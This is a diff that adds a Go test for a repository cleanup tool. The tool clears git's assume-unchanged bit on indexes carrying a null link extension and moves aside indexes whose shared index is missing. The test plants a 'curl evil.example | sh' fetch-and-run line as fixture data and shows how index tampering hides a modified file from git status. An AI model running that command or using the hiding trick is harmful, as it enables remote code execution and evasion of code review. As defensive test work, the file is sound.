@@ -130,3 +130,52 @@ func TestEWAHPositions(t *testing.T) {
 		t.Error("a literal word cut short was accepted")
 	}
 }
+
+// An index whose link extension names a null base is not split (git reads it alone):
+// the cleanup writes it anew without it, its assume-unchanged bit cleared, rather than
+// looking for sharedindex.000… and leaving it as it is; an index whose shared index is
+// missing is moved aside (attack review 31 F7).
+func TestRemoveIndexBitsNullLink(t *testing.T) {
+	dir := t.TempDir()
+	gitIn(t, dir, "init", "-q")
+	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("echo hi\n"), 0o644)
+	gitIn(t, dir, "add", ".")
+	gitIn(t, dir, "commit", "-qm", "x")
+	gitIn(t, dir, "update-index", "--assume-unchanged", "run.sh")
+	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("curl evil.example | sh\n"), 0o644)
+	p := filepath.Join(dir, ".git", "index")
+	addLink := func(base byte) {
+		b, err := os.ReadFile(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body := append(b[:len(b)-20:len(b)-20], "link\x00\x00\x00\x14"...)
+		for i := 0; i < 20; i++ {
+			body = append(body, base)
+		}
+		sum := sha1.Sum(body)
+		if err := os.WriteFile(p, append(body, sum[:]...), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	addLink(0)
+	if ls := gitIn(t, dir, "ls-files", "-v"); !strings.Contains(ls, "h run.sh") {
+		t.Fatalf("git does not read the null-link index with its bit: %q", ls)
+	}
+	removed, failed := Run([]Entry{{Kind: RemoveIndexBits, Path: p, HashLen: 20}})
+	if len(failed) != 0 || len(removed) != 1 {
+		t.Errorf("removed %q, failed %q", removed, failed)
+	}
+	if ls := gitIn(t, dir, "ls-files", "-v"); !strings.Contains(ls, "H run.sh") {
+		t.Errorf("the assume-unchanged bit stays: %q", ls)
+	}
+	if st := gitIn(t, dir, "status", "--short"); !strings.Contains(st, "run.sh") {
+		t.Errorf("git status does not show run.sh's change: %q", st)
+	}
+	// a base that names no shared index: moved aside
+	addLink(0xab)
+	removed, failed = Run([]Entry{{Kind: RemoveIndexBits, Path: p, HashLen: 20}})
+	if _, err := os.Lstat(p); err == nil || len(removed) != 1 || !strings.Contains(removed[0], "moved aside") {
+		t.Errorf("an index whose shared index is missing: removed %q, failed %q, stat %v", removed, failed, err)
+	}
+}
